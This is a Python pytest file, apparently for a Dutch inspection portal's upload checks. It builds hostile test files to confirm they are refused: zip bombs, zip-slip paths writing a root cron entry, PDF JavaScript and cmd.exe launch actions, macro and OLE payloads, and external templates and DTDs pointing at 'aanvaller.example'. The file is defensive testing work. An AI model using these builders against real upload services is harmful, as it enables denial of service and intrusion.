"""The pure file checks: the type comes from the content, never from the name."""

import io
import struct
import zipfile
import zlib

import pytest

from inspecties.voortgang.uploads import (
    DOCX,
    MAX_GROOTTE,
    ODT,
    PDF,
    BestandFout,
    bestandstype_herkennen,
    downloadnaam,
    naam_opschonen,
)

PDF_BYTES = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"


def zip_bytes(entries: dict[str, bytes], *, compressie=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compressie) as zf:
        for naam, inhoud in entries.items():
            zf.writestr(naam, inhoud)
    return buf.getvalue()


REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


def rels(*relaties: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS_NS}">'
        + "".join(relaties)
        + "</Relationships>"
    ).encode()


def docx_bytes(extra: dict[str, bytes] | None = None) -> bytes:
    """A small DOCX as Word writes it (with a hyperlink to a web page, which is fine);
    `extra` adds or replaces parts."""
    delen = {
        "[Content_Types].xml": b"<?xml version='1.0'?><Types/>",
        "_rels/.rels": rels(
            f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": b"<w:document>Voortgang 2014</w:document>",
        "word/_rels/document.xml.rels": rels(
            f'<Relationship Id="rId5" Type="{REL}/hyperlink" '
            'Target="https://www.gouda.nl/jeugd" TargetMode="External"/>'
        ),
    }
    return zip_bytes(delen | (extra or {}))


MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="{odt}"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "{extra}</manifest:manifest>"
)


def odt_bytes(extra: dict[str, bytes] | None = None, manifest_extra: str = "") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("mimetype", ODT, compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", b"<office:document-content/>", zipfile.ZIP_DEFLATED)
        zf.writestr(
            "META-INF/manifest.xml", MANIFEST.format(odt=ODT, extra=manifest_extra).encode()
        )
        for naam, inhoud in (extra or {}).items():
            zf.writestr(naam, inhoud, zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def zip_bom() -> bytes:
    """Looks like a DOCX, but word/document.xml unpacks to 200 MB of zeros."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        with zf.open("word/document.xml", "w", force_zip64=True) as f:
            blok = b"\0" * (1024 * 1024)
            for _ in range(200):
                f.write(blok)
    return buf.getvalue()


def test_pdf_docx_en_odt_worden_herkend_aan_de_inhoud():
    assert bestandstype_herkennen(PDF_BYTES) == PDF
    assert bestandstype_herkennen(docx_bytes()) == DOCX
    assert bestandstype_herkennen(odt_bytes()) == ODT
    assert bestandstype_herkennen(io.BytesIO(PDF_BYTES)) == PDF


@pytest.mark.parametrize(
    "inhoud",
    [
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 100,  # Windows .exe
        b"\x7fELF\x02\x01\x01\x00" + b"\0" * 100,  # Linux executable
        b"<!doctype html><html><script>alert(1)</script></html>",  # HTML named .pdf
        b" %PDF-1.4 not at the start",
        zip_bytes({"readme.txt": b"gewoon een zip"}),
        zip_bytes({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    ],
    ids=["exe", "elf", "html", "pdf-niet-aan-begin", "gewone-zip", "ods"],
)
def test_andere_inhoud_wordt_geweigerd_met_nederlandse_melding(inhoud):
    with pytest.raises(BestandFout, match="bestandstype wordt niet geaccepteerd"):
        bestandstype_herkennen(inhoud)


def test_leeg_bestand_wordt_geweigerd():
    with pytest.raises(BestandFout, match="leeg"):
        bestandstype_herkennen(b"")


def test_te_groot_bestand_wordt_geweigerd():
    with pytest.raises(BestandFout, match="te groot"):
        bestandstype_herkennen(b"%PDF-" + b"\0" * MAX_GROOTTE)


def test_zip_bom_vermomd_als_docx_wordt_geweigerd_zonder_uit_te_pakken():
    bom = zip_bom()
    assert len(bom) < 1024 * 1024  # small on disk
    with pytest.raises(BestandFout, match="gecomprimeerd|uitgepakt te groot"):
        bestandstype_herkennen(bom)


def test_zip_met_te_veel_onderdelen_wordt_geweigerd():
    inhoud = zip_bytes(
        {"[Content_Types].xml": b"x", "word/document.xml": b"x"}
        | {f"word/media/{i}.txt": b"x" for i in range(1001)},
        compressie=zipfile.ZIP_STORED,
    )
    with pytest.raises(BestandFout, match="te veel onderdelen"):
        bestandstype_herkennen(inhoud)


def test_kapotte_zip_wordt_geweigerd():
    with pytest.raises(BestandFout):
        bestandstype_herkennen(b"PK\x03\x04" + b"\x00" * 50)


def test_docx_met_macros_wordt_geweigerd():
    inhoud = zip_bytes(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<w:document/>",
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
        }
    )
    with pytest.raises(BestandFout, match="macro"):
        bestandstype_herkennen(inhoud)


# --- Hostile files (issue 12): one builder per attack, all made here ----------------------------

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504  # an OLE compound file (Package object)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200


def pdf_met(*regels: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(regels) + b"\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def pdf_met_objectstroom(inhoud: bytes) -> bytes:
    """A PDF 1.5 object stream: dictionaries compressed where a byte scan cannot see them."""
    stroom = zlib.compress(inhoud)
    return pdf_met(
        b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stroom)
        + stroom
        + b"\nendstream\nendobj"
    )


def liegende_groottes() -> bytes:
    """A DOCX whose word/document.xml says 1,000 bytes (and has the CRC of those) but
    inflates to 200 MB: zipfile stops at 1,000 bytes, Word does not."""
    naam = b"word/document.xml"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", b"<Types/>")
        with zf.open(naam.decode(), "w") as f:
            for _ in range(200):
                f.write(b"\0" * (1024 * 1024))
    data = bytearray(buf.getvalue())
    crc = zlib.crc32(b"\0" * 1000)
    for kop, crc_op, grootte_op in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
        i = data.find(kop + data[data.find(kop) + 4 : data.find(kop) + 6], 0)
        while i >= 0:
            lengte_op = 28 if kop == b"PK\x01\x02" else 26
            naam_begin = i + (46 if kop == b"PK\x01\x02" else 30)
            naam_lengte = struct.unpack_from("<H", data, i + lengte_op)[0]
            if bytes(data[naam_begin : naam_begin + naam_lengte]) == naam:
                struct.pack_into("<I", data, i + crc_op, crc)
                struct.pack_into("<I", data, i + grootte_op, 1000)
            i = data.find(kop, i + 4)
    return bytes(data)


def met_ruwe_naam(inhoud: bytes, nep: bytes, echt: bytes) -> bytes:
    """Replace an entry name in the raw bytes (zipfile cannot write a NUL or drive letter)."""
    assert len(nep) == len(echt)
    return inhoud.replace(nep, echt)


def geneste_xlsx(extra: dict[str, bytes]) -> bytes:
    return zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"} | extra)


ENTITEITEN_BOM = (
    b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "lollollollol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(8))
    + b"]><w:document>&i;</w:document>"
)

AANVALLEN = {
    # The findings of issue 12
    "pdf-html-polyglot": (
        pdf_met(b"<html><body><script>fetch('/bestanden/')</script></body></html>"),
        "HTML of scripts",
    ),
    "pdf-zip-polyglot": (PDF_BYTES + docx_bytes(), "tegelijk een ZIP"),
    "docx-met-exe": (
        docx_bytes({"word/embeddings/oleObject1.bin": OLE, "word/embeddings/setup.exe": EXE}),
        "ingesloten programma",
    ),
    "docx-ole-package": (docx_bytes({"word/embeddings/Package.bin": OLE}), "ingesloten"),
    "docx-activex": (
        docx_bytes({"word/activeX/activeX1.xml": b"<ax:ocx/>", "word/activeX/activeX1.bin": OLE}),
        "ActiveX",
    ),
    "docx-externe-sjabloon": (
        docx_bytes(
            {
                "word/settings.xml": b"<w:settings/>",
                "word/_rels/settings.xml.rels": rels(
                    f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                    'Target="https://aanvaller.example/sjabloon.dotm" TargetMode="External"/>'
                ),
            }
        ),
        "extern bestand of sjabloon",
    ),
    "docx-zip-slip": (
        docx_bytes({"../../../etc/cron.d/x": b"* * * * * root sh"}),
        "onveilige naam",
    ),
    "docx-liegende-groottes": (liegende_groottes(), "groottes die het document"),
    # Tried beyond the findings
    "docx-extern-plaatje": (
        docx_bytes(
            {
                "word/_rels/document.xml.rels": rels(
                    f'<Relationship Id="rId7" Type="{REL}/image" '
                    'Target="file://aanvaller.example/share/a.png" TargetMode="External"/>'
                )
            }
        ),
        "extern bestand",
    ),
    "docx-hyperlink-naar-bestand": (
        docx_bytes(
            {
                "word/_rels/document.xml.rels": rels(
                    f'<Relationship Id="rId7" Type="{REL}/hyperlink" '
                    'Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>'
                )
            }
        ),
        "extern bestand",
    ),
    "docx-altchunk-html": (
        docx_bytes(
            {
                "word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><script></script></html>",
                "word/_rels/document.xml.rels": rels(
                    f'<Relationship Id="rId9" Type="{REL}/aFChunk" Target="afchunk.mht"/>'
                ),
            }
        ),
        "ingesloten",
    ),
    "docm-als-docx": (
        docx_bytes(
            {
                "[Content_Types].xml": b'<Types><Override ContentType="application/'
                b'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            }
        ),
        "macro",
    ),
    "docx-entiteiten-bom": (docx_bytes({"word/document.xml": ENTITEITEN_BOM}), "DTD"),
    "docx-dtd-in-rels": (
        docx_bytes(
            {
                "_rels/.rels": b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://aanvaller.'
                b'example/r.dtd"><Relationships/>'
            }
        ),
        "DTD",
    ),
    "docx-geneste-zip": (docx_bytes({"word/media/bijlage.zip": zip_bytes({"a": b"b"})}), "archief"),
    "docx-xlsx-met-macro": (
        docx_bytes(
            {
                "word/embeddings/Microsoft_Excel_Worksheet.xlsm": geneste_xlsx(
                    {"xl/vbaProject.bin": OLE}
                )
            }
        ),
        "ingesloten|macro",
    ),
    "docx-xlsx-in-xlsx": (
        docx_bytes(
            {
                "word/embeddings/Blad.xlsx": geneste_xlsx(
                    {"xl/embeddings/Binnen.xlsx": geneste_xlsx({})}
                )
            }
        ),
        "archief",
    ),
    "docx-absoluut-pad": (docx_bytes({"/etc/passwd": b"x"}), "onveilige naam"),
    "docx-backslash": (docx_bytes({"word\\..\\..\\x.xml": b"x"}), "onveilige naam"),
    "docx-stationsletter": (
        met_ruwe_naam(docx_bytes({"X/boot.ini": b"x"}), b"X/boot.ini", b"C:boot.ini"),
        "onveilige naam",
    ),
    "docx-nul-in-naam": (
        met_ruwe_naam(docx_bytes({"word/aXb.xml": b"x"}), b"word/aXb.xml", b"word/a\0b.xml"),
        "onveilige naam",
    ),
    "docx-dubbele-naam": (
        zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<a/>"})[:0]
        or met_ruwe_naam(
            docx_bytes({"word/documenX.xml": b"<b/>"}), b"word/documenX.xml", b"word/document.xml"
        ),
        "onveilige naam",
    ),
    "docx-versleuteld-onderdeel": (
        met_ruwe_naam(
            docx_bytes(),
            b"PK\x01\x02\x14\x03\x14\x00\x00\x00",
            b"PK\x01\x02\x14\x03\x14\x00\x01\x00",
        ),
        "beschadigd|versleuteld",
    ),
    "odt-basic-macro": (odt_bytes({"Basic/Standard/Module1.xml": b"<script:module/>"}), "macro"),
    "odt-ole-object": (
        odt_bytes(
            {"Object 1": OLE, "ObjectReplacements/Object 1": b"\x89PNG\r\n\x1a\n"},
            '<manifest:file-entry manifest:full-path="Object 1" '
            'manifest:media-type="application/vnd.sun.star.oleobject"/>',
        ),
        "ingesloten",
    ),
    "odt-manifest-naar-buiten": (
        odt_bytes(
            manifest_extra='<manifest:file-entry manifest:full-path="../../etc/passwd" '
            'manifest:media-type="text/plain"/>'
        ),
        "extern",
    ),
    "odt-manifest-url": (
        odt_bytes(
            manifest_extra='<manifest:file-entry manifest:full-path="http://aanvaller.example/x" '
            'manifest:media-type="text/xml"/>'
        ),
        "extern",
    ),
    "pdf-javascript": (
        pdf_met(b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
        "JavaScript",
    ),
    "pdf-javascript-hex-ontsnapt": (
        pdf_met(b"1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj"),
        "JavaScript",
    ),
    "pdf-launch": (
        pdf_met(b"1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"),
        "startopdrachten",
    ),
    "pdf-ingesloten-bestand": (
        pdf_met(b"1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj"),
        "ingesloten bestanden",
    ),
    "pdf-javascript-in-objectstroom": (
        pdf_met_objectstroom(b"6 0 <</S/JavaScript/JS(app.alert(1))>>"),
        "JavaScript",
    ),
    "pdf-objectstroom-bom": (
        pdf_met_objectstroom(b"\0" * (60 * 1024 * 1024)),
        "gecomprimeerd",
    ),
}


@pytest.mark.parametrize(("inhoud", "melding"), AANVALLEN.values(), ids=AANVALLEN.keys())
def test_vijandig_bestand_wordt_geweigerd(inhoud, melding):
    with pytest.raises(BestandFout, match=melding):
        bestandstype_herkennen(inhoud)


@pytest.mark.parametrize(
    ("inhoud", "soort"),
    [
        (docx_bytes(), DOCX),  # with its hyperlink to a web page
        (
            docx_bytes({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": geneste_xlsx({})}),
            DOCX,
        ),
        (docx_bytes({"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64}), DOCX),
        (
            odt_bytes(
                {"Object 1/content.xml": b"<chart/>", "ObjectReplacements/Object 1": b"SVM1"},
                '<manifest:file-entry manifest:full-path="Object 1/" '
                'manifest:media-type="application/vnd.oasis.opendocument.chart"/>',
            ),
            ODT,
        ),
        (pdf_met(b"1 0 obj<</Type/Annot/A<</S/URI/URI(https://www.gouda.nl)>>>>endobj"), PDF),
        (pdf_met_objectstroom(b"6 0 <</Type/Page/Parent 2 0 R>>"), PDF),
        (b"%PDF-" + b"\0" * (MAX_GROOTTE - 5), PDF),  # exactly 20 MB
    ],
    ids=["docx-met-link", "docx-met-grafiek", "docx-met-plaatje", "odt-met-grafiek", "pdf-link",
         "pdf-objectstroom", "pdf-precies-20-mb"],
)  # fmt: skip
def test_gewone_documenten_blijven_welkom(inhoud, soort):
    assert bestandstype_herkennen(inhoud) == soort


@pytest.mark.parametrize(
    ("naam", "soort", "verwacht"),
    [
        ("rapport.pdf", PDF, "rapport.pdf"),
        ("x.html", PDF, "x.pdf"),
        ("x.exe", DOCX, "x.docx"),
        ("rapport.pdf.exe", PDF, "rapport.pdf.pdf"),
        ("rapport\u202efdp.exe", PDF, "rapportfdp.pdf"),  # RLO: shown as "rapportexe.pdf"
        ("..\\..\\windows\\x.pdf", PDF, "x.pdf"),
        ("map/x.odt", ODT, "x.odt"),
        ("zonder-extensie", ODT, "zonder-extensie.odt"),
        ("", PDF, "voortgangsrapportage.pdf"),
        ('a"b<c>.pdf\r\n', PDF, "a_b_c_.pdf"),
    ],
)
def test_downloadnaam_draagt_de_extensie_van_het_herkende_type(naam, soort, verwacht):
    assert downloadnaam(naam, soort) == verwacht


def test_opgeschoonde_naam_verliest_richtingstekens_en_mappen():
    assert naam_opschonen("..\\map/rapport\u202efdp.exe") == "rapportfdp.exe"
    assert naam_opschonen("verslag\u200b 2014.docx") == "verslag 2014.docx"


# --- Through the portal: refused with a Dutch message, nothing stored, no temporary file ---------


@pytest.fixture
def wereld(kaders, inspecteur, settings, tmp_path):
    from tests.factories import portaal_wereld

    # Every upload goes through a temporary file on disk, so we can see that none is left.
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path)
    return portaal_wereld(kaders, inspecteur=inspecteur)


def alle_opgeslagen_bestanden() -> list[str]:
    from django.core.files.storage import default_storage

    def walk(pad):
        mappen, bestanden = default_storage.listdir(pad)
        gevonden = [f"{pad}/{b}" for b in bestanden]
        for m in mappen:
            gevonden += walk(f"{pad}/{m}".lstrip("/"))
        return gevonden

    return sorted(walk(""))


def portaal_uploaden(client, wereld, naam: str, inhoud: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile
    from django.urls import reverse

    url = reverse("portaal:uploaden", args=[wereld.gepubliceerd.pk])
    return client.post(url, {"bestand": SimpleUploadedFile(naam, inhoud), "bericht": ""})


@pytest.mark.parametrize(("inhoud", "melding"), AANVALLEN.values(), ids=AANVALLEN.keys())
def test_vijandige_upload_wordt_geweigerd_en_laat_niets_achter(
    wereld, client, tmp_path, inhoud, melding
):
    import os
    import re

    from django.core import mail

    from inspecties.models import Voortgangsrapportage
    from tests.conftest import inloggen

    inloggen(client, wereld.gouda_gebruiker)
    rijen, bestanden = Voortgangsrapportage.objects.count(), alle_opgeslagen_bestanden()
    mail.outbox.clear()

    antwoord = portaal_uploaden(client, wereld, "voortgang.docx", inhoud)

    assert antwoord.status_code == 400
    tekst = antwoord.content.decode()
    assert re.search(melding, tekst.replace("&#x27;", "'")), tekst[-3000:]
    assert "niet geaccepteerd" in tekst or "beschadigd" in tekst
    assert Voortgangsrapportage.objects.count() == rijen
    assert alle_opgeslagen_bestanden() == bestanden
    assert mail.outbox == []
    assert os.listdir(tmp_path) == []  # Django's temporary upload file is gone too


@pytest.mark.parametrize(
    ("naam", "inhoud", "downloadnaam_", "getoond"),
    [
        ("x.html", PDF_BYTES, "x.pdf", "x.html"),
        ("x.exe", "docx", "x.docx", "x.exe"),
        ("rapport\u202efdp.exe", PDF_BYTES, "rapportfdp.pdf", "rapportfdp.exe"),
    ],
)
def test_download_heet_naar_het_herkende_type(
    wereld, client, inspecteur, naam, inhoud, downloadnaam_, getoond
):
    from django.urls import reverse

    from inspecties.models import Voortgangsrapportage
    from tests.conftest import inloggen

    inhoud = docx_bytes() if inhoud == "docx" else inhoud
    inloggen(client, wereld.gouda_gebruiker)
    assert portaal_uploaden(client, wereld, naam, inhoud).status_code == 302
    rapportage = Voortgangsrapportage.objects.filter(onderzoek=wereld.gepubliceerd).latest("pk")
    assert rapportage.oorspronkelijke_naam == getoond
    for url in (
        reverse("portaal:download", args=[rapportage.pk]),
        reverse("voortgang:download", args=[rapportage.pk]),
    ):
        if url.startswith("/voortgang"):
            inloggen(client, inspecteur)
        antwoord = client.get(url)
        assert antwoord["Content-Disposition"] == f'attachment; filename="{downloadnaam_}"'
        assert antwoord["Content-Type"] == rapportage.inhoudstype
        assert b"".join(antwoord.streaming_content) == inhoud


def test_upload_van_precies_20_mb_komt_door_en_een_byte_meer_niet(wereld, client, tmp_path):
    import os

    from inspecties.models import Voortgangsrapportage
    from tests.conftest import inloggen

    inloggen(client, wereld.gouda_gebruiker)
    precies = b"%PDF-1.7\n" + b"0" * (MAX_GROOTTE - 9)
    assert portaal_uploaden(client, wereld, "groot.pdf", precies).status_code == 302
    assert Voortgangsrapportage.objects.filter(grootte=MAX_GROOTTE).exists()
    antwoord = portaal_uploaden(client, wereld, "groter.pdf", precies + b"0")
    assert antwoord.status_code == 400 and "te groot" in antwoord.content.decode()
    assert os.listdir(tmp_path) == []
